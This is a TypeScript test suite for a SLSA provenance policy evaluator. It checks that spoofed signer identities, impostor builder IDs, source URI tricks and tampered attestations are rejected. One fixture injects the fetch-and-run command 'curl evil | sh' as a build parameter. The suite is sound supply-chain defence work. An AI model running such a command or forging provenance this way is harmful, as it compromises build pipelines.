/**
 * Each check's pass and fail path, and the rows of docs/checklist.md the policy layer owns, over
 * real corpus attestations. Signature verification is the other layer's job; edited
 * statements stand for what a malicious or buggy builder could have signed.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ErrorCode } from '../../../src/core/errors.ts';
import type { CheckId, VerifiedAttestation } from '../../../src/core/model.ts';
import { compileAnchored } from '../../../src/core/policy/anchored-pattern.ts';
import { evaluate, EvaluationSchema, type Evaluation } from '../../../src/core/policy/evaluate.ts';
import {
  PolicyRuleSchema,
  type LevelEvidence,
  type PolicyRuleInput,
} from '../../../src/core/policy/policy-rule.ts';
import { defaultTrustMap, type TrustMap } from '../../../src/core/policy/trust-map.ts';
import {
  caseArtifact,
  caseAttestations,
  corpusCase,
  provenanceOf,
  withSigner,
  withStatement,
} from '../provenance/corpus-attestations.ts';

const GITHUB_ISSUER = 'https://token.actions.githubusercontent.com';
const GENERIC =
  'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml';
const DISPATCH = 'slsa-verifier/gha-generic-v2.1.0-dispatch-valid';
const NOW = new Date('2026-01-01T00:00:00Z');

function run(
  caseId: string,
  rule: PolicyRuleInput,
  opts: {
    attestations?: VerifiedAttestation[];
    levels?: LevelEvidence;
    trustMap?: TrustMap;
    now?: Date;
  } = {},
): Evaluation {
  const c = corpusCase(caseId);
  const attestations = opts.attestations ?? caseAttestations(c);
  const input: Parameters<typeof evaluate>[0] = {
    artifact: caseArtifact(c, caseAttestations(c)),
    attestations,
    rule: PolicyRuleSchema.parse(rule),
    trustMap: opts.trustMap ?? defaultTrustMap(),
    now: opts.now ?? NOW,
  };
  if (opts.levels !== undefined) input.levels = opts.levels;
  return evaluate(input);
}

function check(ev: Evaluation, id: CheckId) {
  const found = ev.checks.find((c) => c.id === id);
  assert.ok(found, `no ${id} check in ${ev.checks.map((c) => c.id).join(',')}`);
  return found;
}

function assertFails(ev: Evaluation, id: CheckId, code: ErrorCode): void {
  const c = check(ev, id);
  assert.equal(c.result, 'FAIL', `${id}: ${c.reason}`);
  assert.equal(c.code, code, c.reason);
  assert.equal(ev.outcome, 'FAILED');
}

function assertPasses(ev: Evaluation, id: CheckId): void {
  const c = check(ev, id);
  assert.equal(c.result, 'PASS', `${id}: ${c.reason}`);
}

// --- identity -------------------------------------------------------------------------

const SIGSTORE_JS = 'slsa-verifier/npm-sigstore-2.3.1-valid';
const SIGSTORE_SAN = 'https://github.com/sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/main';

test('identity: exact SAN and issuer pass', () => {
  const ev = run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subject: SIGSTORE_SAN }] });
  assertPasses(ev, 'identity');
  assert.equal(ev.outcome, 'PASSED');
});

test('docs/checklist.md#row-11: SAN differing by prefix, suffix, case or path is IDENTITY_MISMATCH', () => {
  const variants = [
    'https://github.com/sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/main-evil',
    'https://github.com/sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/mai',
    'http://github.com/sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/main',
    'https://github.com/Sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/main',
    'https://github.com/sigstore/sigstore-js/.github/workflows/sub/release.yml@refs/heads/main',
  ];
  for (const subject of variants) {
    assertFails(
      run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subject }] }),
      'identity',
      'IDENTITY_MISMATCH',
    );
  }
});

test('docs/checklist.md#row-11: a SAN is compared as a string, never as a regex (`.` is not any character)', () => {
  const subject = SIGSTORE_SAN.replace('release.yml', 'release.ym.');
  assertFails(
    run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subject }] }),
    'identity',
    'IDENTITY_MISMATCH',
  );
});

test('docs/checklist.md#row-11: unanchored patterns are refused; anchored ones match the whole SAN only', () => {
  assert.equal(
    PolicyRuleSchema.safeParse({ identities: [{ issuer: GITHUB_ISSUER, subjectPattern: 'github' }] }).success,
    false,
  );
  assert.equal(
    PolicyRuleSchema.safeParse({
      identities: [{ issuer: GITHUB_ISSUER, subjectPattern: '^https://github.com/sigstore' }],
    }).success,
    false,
  );
  // `^a|b$` must not become "starts with a, or ends with b".
  assert.equal(compileAnchored('^https://github\\.com/sigstore|nothing$').test(SIGSTORE_SAN), false);
  const pattern =
    '^https://github\\.com/sigstore/sigstore-js/\\.github/workflows/release\\.yml@refs/heads/main$';
  assertPasses(
    run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subjectPattern: pattern }] }),
    'identity',
  );
});

test('docs/checklist.md#row-12: wrong OIDC issuer is IDENTITY_MISMATCH', () => {
  const ev = run(SIGSTORE_JS, {
    identities: [{ issuer: 'https://token.actions.githubusercontent.com/evil', subject: SIGSTORE_SAN }],
  });
  assertFails(ev, 'identity', 'IDENTITY_MISMATCH');
});

test('docs/checklist.md#row-13: right SAN but another repository or owner id (re-created) is IDENTITY_MISMATCH', () => {
  assertPasses(
    run(SIGSTORE_JS, {
      identities: [
        { issuer: GITHUB_ISSUER, subject: SIGSTORE_SAN, repoId: '495574555', ownerId: '71096353' },
      ],
    }),
    'identity',
  );
  assertFails(
    run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subject: SIGSTORE_SAN, repoId: '1' }] }),
    'identity',
    'IDENTITY_MISMATCH',
  );
  assertFails(
    run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subject: SIGSTORE_SAN, ownerId: '1' }] }),
    'identity',
    'IDENTITY_MISMATCH',
  );
});

test('identity: owner and repo come from the Fulcio extensions', () => {
  assertPasses(
    run(SIGSTORE_JS, {
      identities: [{ issuer: GITHUB_ISSUER, owner: 'sigstore', repo: 'sigstore/sigstore-js' }],
    }),
    'identity',
  );
  assertFails(
    run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, repo: 'sigstore/sigstore-js-evil' }] }),
    'identity',
    'IDENTITY_MISMATCH',
  );
});

test('identity: a key signature does not satisfy a certificate identity, and the reverse', () => {
  const vsa = 'slsa-verifier/vsa-google-bcid-valid';
  assertFails(
    run(vsa, { requireProvenance: false, identities: [{ issuer: GITHUB_ISSUER, subject: SIGSTORE_SAN }] }),
    'identity',
    'IDENTITY_MISMATCH',
  );
  assertPasses(
    run(vsa, {
      requireProvenance: false,
      identities: [{ keyId: 'keystore://76574:prod:vsa_signing_public_key' }],
    }),
    'identity',
  );
  assertFails(run(SIGSTORE_JS, { identities: [{ keyId: 'k' }] }), 'identity', 'IDENTITY_MISMATCH');
});

// --- builder and build level ----------------------------------------------------------

test('builder: slsa-github-generator at vX.Y.Z is trusted at L3', () => {
  const ev = run(DISPATCH, { builders: [GENERIC], minBuildLevel: 3 });
  assertPasses(ev, 'builder');
  assert.equal(check(ev, 'build-level').level, 3);
  assert.equal(ev.outcome, 'PASSED');
});

test('builder: `@vX.Y.Z` and `@refs/tags/vX.Y.Z` suffixes match, another version does not', () => {
  assertPasses(run(DISPATCH, { builders: [`${GENERIC}@v2.1.0`] }), 'builder');
  assertPasses(run(DISPATCH, { builders: [`${GENERIC}@refs/tags/v2.1.0`] }), 'builder');
  assertFails(run(DISPATCH, { builders: [`${GENERIC}@v2.0.0`] }), 'builder', 'BUILDER_UNTRUSTED');
});

test('docs/checklist.md#row-19: builder id prefix abuse (…-generator-evil) is BUILDER_UNTRUSTED', () => {
  const evil = GENERIC.replace('slsa-github-generator/', 'slsa-github-generator-evil/');
  const att = withStatement(
    withSigner(provenanceOf(DISPATCH), (s) => {
      s.identity = `${evil}@refs/tags/v2.1.0`;
      s.extensions.buildSignerURI = `${evil}@refs/tags/v2.1.0`;
    }),
    (st) => {
      st.predicate.builder.id = `${evil}@refs/tags/v2.1.0`;
    },
  );
  assertFails(run(DISPATCH, {}, { attestations: [att] }), 'builder', 'BUILDER_UNTRUSTED');
  assertFails(run(DISPATCH, { builders: [GENERIC.slice(0, -4)] }), 'builder', 'BUILDER_UNTRUSTED');
});

test('docs/checklist.md#row-19: builder ref not vX.Y.Z (branch, short tag, pre-release) is BUILDER_UNTRUSTED', () => {
  for (const ref of ['refs/heads/main', 'refs/tags/v2.1', 'refs/tags/v2.1.0-rc.1', 'refs/tags/v2.1.0-evil']) {
    const att = withStatement(
      withSigner(provenanceOf(DISPATCH), (s) => {
        s.identity = `${GENERIC}@${ref}`;
        s.extensions.buildSignerURI = `${GENERIC}@${ref}`;
      }),
      (st) => {
        st.predicate.builder.id = `${GENERIC}@${ref}`;
      },
    );
    assertFails(run(DISPATCH, {}, { attestations: [att] }), 'builder', 'BUILDER_UNTRUSTED');
  }
});

test('docs/checklist.md#row-19: predicate builder differs from the certificate Build Signer URI is BUILDER_UNTRUSTED', () => {
  const att = withStatement(provenanceOf(DISPATCH), (st) => {
    st.predicate.builder.id =
      'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/builder_go_slsa3.yml@refs/tags/v2.1.0';
  });
  assertFails(run(DISPATCH, {}, { attestations: [att] }), 'builder', 'BUILDER_UNTRUSTED');
});

test('builder: a revoked builder version is BUILDER_UNTRUSTED', () => {
  const trustMap = defaultTrustMap();
  trustMap.revoked.push({ builderId: `${GENERIC}@refs/tags/v2.1.0`, reason: 'test revocation' });
  assertFails(run(DISPATCH, {}, { trustMap }), 'builder', 'BUILDER_UNTRUSTED');
});

test('builder: a BYOB delegator with a third-party TRW needs the TRW named', () => {
  const byob = 'slsa-verifier/gha-byob-delegator-v2.1.0-valid';
  assertFails(run(byob, {}), 'builder', 'BUILDER_UNTRUSTED');
  assertPasses(
    run(byob, {
      builders: [
        'https://github.com/slsa-framework/example-trw/.github/workflows/builder_high-perms_slsa3.yml',
      ],
    }),
    'builder',
  );
});

test('builder: unknown builder is level 0 and untrusted unless the rule pins builder and signer', () => {
  const bare = 'slsa-verifier/gha-malicious-untrusted-builder';
  const ev = run(bare, {});
  assertFails(ev, 'builder', 'BUILDER_UNTRUSTED');
  assert.equal(check(ev, 'builder').level, 0);
  const pinned = run(bare, {
    identities: [
      {
        issuer: GITHUB_ISSUER,
        subject:
          'https://github.com/asraa/slsa-github-generator/.github/workflows/builder_go_slsa3.yml@refs/tags/v1.4.0',
      },
    ],
    builders: ['https://github.com/asraa/slsa-github-generator/.github/workflows/builder_go_slsa3.yml'],
  });
  assertPasses(pinned, 'builder');
  assert.equal(check(pinned, 'build-level').level, 0);
});

test('build-level: npm CLI reaches L2, so a rule needing L3 fails', () => {
  const npm = 'slsa-verifier/npm-sigstore-2.3.1-valid';
  assertPasses(run(npm, { minBuildLevel: 2 }), 'build-level');
  assertFails(run(npm, { minBuildLevel: 3 }), 'build-level', 'BUILD_LEVEL_INSUFFICIENT');
});

test('build-level: attest-build-provenance in a reusable workflow reaches L3', () => {
  const ev = run('gh-cli/github-attestation-reusable-workflow-valid', { minBuildLevel: 3 });
  assertPasses(ev, 'build-level');
});

// --- source -----------------------------------------------------------------------------

test('source: repository and branch pass', () => {
  const ev = run(DISPATCH, {
    source: { repos: ['github.com/slsa-framework/example-package'], branches: ['main'] },
  });
  assertPasses(ev, 'source');
});

test('docs/checklist.md#row-20: source URI tricks are SOURCE_MISMATCH', () => {
  const tricks = [
    'github.com/slsa-framework/example-packageX',
    'github.com/slsa-framework/example-packag',
    'https://github.com/slsa-framework/example-package',
    'github.com/slsa-framework/example-package.git',
    'github.com/slsa-framework/example-package/sub',
    'github.com/slsa-framework/example-package@refs/heads/main',
    'github.com/Slsa-framework/example-package',
    'github.com/slsa-framework/*/x',
  ];
  for (const repo of tricks) {
    assertFails(run(DISPATCH, { source: { repos: [repo] } }), 'source', 'SOURCE_MISMATCH');
  }
  assertPasses(run(DISPATCH, { source: { repos: ['github.com/slsa-framework/*'] } }), 'source');
});

test('docs/checklist.md#row-21: branch, tag and versioned-tag constraints are REF_MISMATCH when unmet', () => {
  const tagged = 'slsa-verifier/gha-generic-v2.1.0-tag-v13.0.30-versioned-v13';
  assertPasses(run(tagged, { source: { tags: ['v13.0.30'] } }), 'source');
  assertFails(run(tagged, { source: { tags: ['v13.0.3'] } }), 'source', 'REF_MISMATCH');
  assertFails(run(tagged, { source: { tags: ['v13.0.29'] } }), 'source', 'REF_MISMATCH');
  assertFails(run(tagged, { source: { branches: ['main'] } }), 'source', 'REF_MISMATCH');
  for (const ok of ['v13', 'v13.0', 'v13.0.30'])
    assertPasses(run(tagged, { source: { versionedTag: ok } }), 'source');
  for (const bad of ['v1', 'v13.1', 'v13.0.3', 'v13.0.30-rc1']) {
    assertFails(run(tagged, { source: { versionedTag: bad } }), 'source', 'REF_MISMATCH');
  }
});

test('source level: evidence for the commit and ref passes; wrong commit or missing ref fails', () => {
  const repo = 'github.com/slsa-framework/example-package';
  const commit = '4d329c75e7ec1725f7c9ce917a8799d408d06be3';
  const evidence = (c: string, refs: string[]): LevelEvidence => ({
    sources: [{ repo, commit: c, refs, level: 3, evidence: ['sha256:source-vsa'], method: 'vsa' }],
  });
  const rule = { source: { repos: [repo], minLevel: 3 } };
  const ok = run(DISPATCH, rule, { levels: evidence(commit, ['refs/heads/main']) });
  assertPasses(ok, 'source');
  assert.equal(check(ok, 'source').level, 3);
  assert.ok(check(ok, 'source').evidence.includes('sha256:source-vsa'));
  assertFails(
    run(DISPATCH, rule, { levels: evidence('0'.repeat(40), ['refs/heads/main']) }),
    'source',
    'SOURCE_LEVEL_INSUFFICIENT',
  );
  assertFails(
    run(DISPATCH, rule, { levels: evidence(commit, ['refs/heads/other']) }),
    'source',
    'SOURCE_LEVEL_INSUFFICIENT',
  );
  assertFails(run(DISPATCH, rule), 'source', 'SOURCE_LEVEL_INSUFFICIENT');
});

// --- entry point ------------------------------------------------------------------------

const BCR = 'slsa-verifier/github-attestation-bcr-module-valid';

test('entrypoint: expected buildType, entry point and inputs pass', () => {
  const ev = run(BCR, {
    builders: ['https://github.com/bazel-contrib/publish-to-bcr/.github/workflows/publish.yaml'],
    entrypoint: {
      buildTypes: ['https://actions.github.io/buildtypes/workflow/v1'],
      entryPoints: ['.github/workflows/release.yml'],
    },
  });
  assertPasses(ev, 'entrypoint');
  assert.equal(ev.outcome, 'PASSED');
});

test('docs/checklist.md#row-23: unexpected entry point or buildType is ENTRYPOINT_MISMATCH', () => {
  assertFails(
    run(BCR, { entrypoint: { entryPoints: ['.github/workflows/other.yml'] } }),
    'entrypoint',
    'ENTRYPOINT_MISMATCH',
  );
  assertFails(
    run(BCR, {
      entrypoint: { buildTypes: ['https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1'] },
    }),
    'entrypoint',
    'ENTRYPOINT_MISMATCH',
  );
});

test('docs/checklist.md#row-23: unknown externalParameters are ENTRYPOINT_MISMATCH unless the rule allows them', () => {
  const att = withStatement(provenanceOf(BCR), (st) => {
    st.predicate.buildDefinition.externalParameters.extraScript = 'curl evil | sh';
  });
  assertFails(run(BCR, {}, { attestations: [att] }), 'entrypoint', 'ENTRYPOINT_MISMATCH');
  assertPasses(
    run(BCR, { entrypoint: { allowUnknownParameters: true } }, { attestations: [att] }),
    'entrypoint',
  );
  const unknownType = withStatement(provenanceOf(BCR), (st) => {
    st.predicate.buildDefinition.buildType = 'https://example.com/unknown-build/v1';
  });
  assertFails(run(BCR, {}, { attestations: [unknownType] }), 'entrypoint', 'ENTRYPOINT_MISMATCH');
});

test('entrypoint: workflow inputs compared as strings', () => {
  const inputs = 'slsa-verifier/gha-generic-workflow-inputs-match';
  assertPasses(
    run(inputs, { entrypoint: { workflowInputs: { some_integer: '123', some_bool: 'true' } } }),
    'entrypoint',
  );
  assertFails(
    run(inputs, { entrypoint: { workflowInputs: { some_integer: '321' } } }),
    'entrypoint',
    'ENTRYPOINT_MISMATCH',
  );
  assertFails(
    run(inputs, { entrypoint: { workflowInputs: { missing: 'x' } } }),
    'entrypoint',
    'ENTRYPOINT_MISMATCH',
  );
});

// --- dependencies -----------------------------------------------------------------------

// The container-based builder records its own source as a resolved dependency with a sha256.
const CONTAINER = 'slsa-verifier/gha-container-based-v2.1.0-valid';
const GENERATOR_DEP = 'git+https://github.com/slsa-framework/slsa-github-generator@refs/tags/v2.1.0';
const GENERATOR_DIGEST = { sha256: '31c5f5580e11db3c0119ec4c772cf2663eda944df12da5ac309a90de207fd4c1' };

test('dependencies: a dependency with level evidence at the minimum passes', () => {
  const ev = run(
    CONTAINER,
    { dependencies: { minLevel: 2 } },
    {
      levels: {
        dependencies: [{ digest: GENERATOR_DIGEST, level: 3, evidence: ['sha256:dep-vsa'], method: 'vsa' }],
      },
    },
  );
  assertPasses(ev, 'dependencies');
  assert.ok(check(ev, 'dependencies').evidence.includes('sha256:dep-vsa'));
});

test('docs/checklist.md#row-24: dependency level too low or missing is DEP_LEVEL_INSUFFICIENT (unknown = level 0)', () => {
  assertFails(run(CONTAINER, { dependencies: { minLevel: 1 } }), 'dependencies', 'DEP_LEVEL_INSUFFICIENT');
  assertFails(
    run(
      CONTAINER,
      { dependencies: { minLevel: 3 } },
      {
        levels: {
          dependencies: [{ digest: GENERATOR_DIGEST, level: 2, evidence: ['sha256:dep-vsa'], method: 'vsa' }],
        },
      },
    ),
    'dependencies',
    'DEP_LEVEL_INSUFFICIENT',
  );
  // Evidence for another digest does not count.
  assertFails(
    run(
      CONTAINER,
      { dependencies: { minLevel: 1 } },
      {
        levels: {
          dependencies: [{ digest: { sha256: 'ab'.repeat(32) }, level: 3, evidence: [], method: 'static' }],
        },
      },
    ),
    'dependencies',
    'DEP_LEVEL_INSUFFICIENT',
  );
});

test('dependencies: an unexpired exception applies; one needing approval makes the outcome NEEDS_APPROVAL', () => {
  const exception = { pattern: GENERATOR_DEP, reason: 'builder source', expires: '2026-06-01T00:00:00Z' };
  const plain = run(CONTAINER, { dependencies: { minLevel: 1, exceptions: [exception] } });
  assertPasses(plain, 'dependencies');
  assert.equal(plain.outcome, 'PASSED');
  const approval = run(CONTAINER, {
    dependencies: { minLevel: 1, exceptions: [{ ...exception, requireApproval: true }] },
  });
  assertPasses(approval, 'dependencies');
  assert.equal(check(approval, 'dependencies').needsApproval, true);
  assert.equal(approval.outcome, 'NEEDS_APPROVAL');
  const pattern = run(CONTAINER, {
    dependencies: {
      minLevel: 1,
      exceptions: [{ ...exception, pattern: '^git\\+https://github\\.com/slsa-framework/.*$' }],
    },
  });
  assertPasses(pattern, 'dependencies');
});

test('dependencies: the source material is not a dependency (Cloud Build writes it without git+)', () => {
  const ev = run('slsa-verifier/gcb-v0.3-valid', { dependencies: { minLevel: 3 } });
  assertPasses(ev, 'dependencies');
});

test('dependencies: an expired exception no longer applies', () => {
  const ev = run(CONTAINER, {
    dependencies: {
      minLevel: 1,
      exceptions: [{ pattern: GENERATOR_DEP, reason: 'old', expires: '2025-12-31T23:59:59Z' }],
    },
  });
  assertFails(ev, 'dependencies', 'DEP_LEVEL_INSUFFICIENT');
});

// --- package ----------------------------------------------------------------------------

const NPM = 'slsa-verifier/npm-cli-provenance-v0.2-valid';

test('package: name and version from the publish attestation purl pass', () => {
  assertPasses(
    run(NPM, { package: { name: '@trishankatdatadog/supreme-goggles', version: '1.0.5' } }),
    'package',
  );
});

test('package: another name or version, or no publish attestation, is PACKAGE_MISMATCH', () => {
  assertFails(run(NPM, { package: { version: '1.0.4' } }), 'package', 'PACKAGE_MISMATCH');
  assertFails(run(NPM, { package: { name: 'supreme-goggles' } }), 'package', 'PACKAGE_MISMATCH');
  const onlyProvenance = [provenanceOf(NPM)];
  assertFails(
    run(NPM, { package: { name: '@trishankatdatadog/supreme-goggles' } }, { attestations: onlyProvenance }),
    'package',
    'PACKAGE_MISMATCH',
  );
});

// --- vsa --------------------------------------------------------------------------------

const VSA = 'slsa-verifier/vsa-google-bcid-valid';
const VERIFIER = 'https://bcid.corp.google.com/verifier/bcid_package_enforcer/v0.1';
const RESOURCE = 'gce_image://gke-node-images:gke-12615-gke1418000-cos-101-17162-463-29-c-cgpv1-pre';

test('vsa: verifier, resource and levels pass; a higher SLSA level satisfies a lower one', () => {
  const base = {
    requireProvenance: false,
    identities: [{ keyId: 'keystore://76574:prod:vsa_signing_public_key' }],
  };
  assertPasses(
    run(VSA, {
      ...base,
      vsa: { verifierId: VERIFIER, resourceUri: RESOURCE, verifiedLevels: ['BCID_L1', 'SLSA_BUILD_LEVEL_2'] },
    }),
    'vsa',
  );
  assertPasses(run(VSA, { ...base, vsa: { verifiedLevels: ['SLSA_BUILD_LEVEL_1'] } }), 'vsa');
});

test('docs/checklist.md#row-24: VSA with another verifier or resource, a level not reached, or result FAILED is VSA_MISMATCH', () => {
  const base = { requireProvenance: false };
  assertFails(run(VSA, { ...base, vsa: { verifierId: `${VERIFIER}x` } }), 'vsa', 'VSA_MISMATCH');
  assertFails(run(VSA, { ...base, vsa: { resourceUri: `${RESOURCE}x` } }), 'vsa', 'VSA_MISMATCH');
  assertFails(run(VSA, { ...base, vsa: { verifiedLevels: ['SLSA_BUILD_LEVEL_3'] } }), 'vsa', 'VSA_MISMATCH');
  const failedVsa = caseAttestations(corpusCase(VSA)).map((a) =>
    withStatement(a, (st) => {
      st.predicate.verificationResult = 'FAILED';
    }),
  );
  assertFails(
    run(VSA, { ...base, vsa: { verifierId: VERIFIER } }, { attestations: failedVsa }),
    'vsa',
    'VSA_MISMATCH',
  );
});

// --- several attestations, outcome --------------------------------------------------------

test('docs/checklist.md#row-18: the first attestation invalid and the second valid → the valid one is used', () => {
  const good = provenanceOf(DISPATCH);
  const bad = withStatement(good, (st) => {
    st.predicate.builder.id = `${GENERIC}@refs/tags/v0.0.1`;
  });
  const ev = run(
    DISPATCH,
    { builders: [GENERIC] },
    { attestations: [{ ...bad, digest: 'sha256:bad' }, good] },
  );
  assert.equal(ev.outcome, 'PASSED');
  assert.equal(ev.attestationDigest, good.digest);
});

test('docs/checklist.md#row-18: fields are never mixed across attestations', () => {
  // One has the expected builder but not the source, the other the source but not the builder.
  const rule = { builders: [GENERIC], source: { repos: ['github.com/sigstore/sigstore-js'] } };
  const attestations = [provenanceOf(DISPATCH), provenanceOf(SIGSTORE_JS)];
  const ev = run(DISPATCH, rule, { attestations });
  assert.equal(ev.outcome, 'FAILED');
  assert.equal(ev.attestationDigest, attestations[0]!.digest);
  assertFails(ev, 'source', 'SOURCE_MISMATCH');
  assertPasses(ev, 'builder');
});

test('no SLSA provenance among the attestations → NO_PROVENANCE', () => {
  const publishOnly = caseAttestations(corpusCase(NPM)).filter(
    (a) => !/slsa\.dev/.test(a.predicateType ?? ''),
  );
  const ev = run(NPM, {}, { attestations: publishOnly });
  assert.equal(ev.outcome, 'FAILED');
  assert.ok(ev.checks.some((c) => c.code === 'NO_PROVENANCE'));
});

test('approvalRequired: everything passes → NEEDS_APPROVAL; a failure still fails', () => {
  assert.equal(run(DISPATCH, { approvalRequired: true }).outcome, 'NEEDS_APPROVAL');
  assert.equal(run(DISPATCH, { approvalRequired: true, builders: ['x'] }).outcome, 'FAILED');
});

test('subject: an artifact that is not a subject fails', () => {
  const c = corpusCase(DISPATCH);
  const ev = evaluate({
    artifact: { digests: { sha256: 'ab'.repeat(32) } },
    attestations: caseAttestations(c),
    rule: PolicyRuleSchema.parse({}),
    trustMap: defaultTrustMap(),
    now: NOW,
  });
  assertFails(ev, 'subject', 'SUBJECT_MISMATCH');
});

test('the evaluation is plain JSON (crosses Temporal activity boundaries)', () => {
  const ev = run(DISPATCH, { builders: [GENERIC] });
  const roundTrip = EvaluationSchema.parse(JSON.parse(JSON.stringify(ev)));
  assert.deepEqual(roundTrip, ev);
});

test('evaluate adds the rollback check when publishing to a tag', () => {
  const c = corpusCase('slsa-verifier/gha-generic-v2.1.0-tag-v13.0.30-versioned-v13');
  const attestations = caseAttestations(c);
  const base = {
    artifact: caseArtifact(c, attestations),
    attestations,
    rule: PolicyRuleSchema.parse({}),
    trustMap: defaultTrustMap(),
    now: NOW,
  };
  const ok = evaluate({ ...base, rollback: { target: 'r/app:v13.0.30' } });
  assertPasses(ok, 'rollback');
  const replay = evaluate({
    ...base,
    rollback: {
      target: 'r/app:latest',
      last: { target: 'r/app:latest', artifactDigest: 'sha256:x', version: 'v13.1.0' },
    },
  });
  assertFails(replay, 'rollback', 'ROLLBACK');
});

test('signature-only rules: no attestation at all fails; a pinned identity must match one attestation', () => {
  const rule = { requireProvenance: false, identities: [{ issuer: GITHUB_ISSUER, subject: SIGSTORE_SAN }] };
  assert.equal(run(SIGSTORE_JS, rule, { attestations: [] }).outcome, 'FAILED');
  const ev = run(SIGSTORE_JS, rule);
  assertPasses(ev, 'identity');
  assert.equal(check(ev, 'builder').result, 'SKIPPED');
  assert.equal(ev.outcome, 'PASSED');
});

test('docs/checklist.md#row-14: a provenance whose DSSE payloadType is not in-toto is PAYLOAD_TYPE', () => {
  const att = { ...provenanceOf(DISPATCH), payloadType: 'application/json' };
  assertFails(run(DISPATCH, {}, { attestations: [att] }), 'payload-type', 'PAYLOAD_TYPE');
});

test('vsa: only a VSA from a signer the rule accepts counts', () => {
  const vsa = caseAttestations(corpusCase(VSA));
  const other = vsa.map((a) => withSigner(a, (s) => (s.keyId = 'keystore://other')));
  const rule = {
    requireProvenance: false,
    identities: [{ keyId: 'keystore://76574:prod:vsa_signing_public_key' }],
    vsa: { verifierId: VERIFIER },
  };
  assertPasses(run(VSA, rule), 'vsa');
  assertFails(run(VSA, rule, { attestations: other }), 'vsa', 'VSA_MISMATCH');
  // Given explicitly, vsa.identities decide even when the rule's identities are for provenance.
  const explicit = {
    requireProvenance: false,
    vsa: { verifierId: VERIFIER, identities: [{ keyId: 'keystore://x' }] },
  };
  assertFails(run(VSA, explicit), 'vsa', 'VSA_MISMATCH');
});
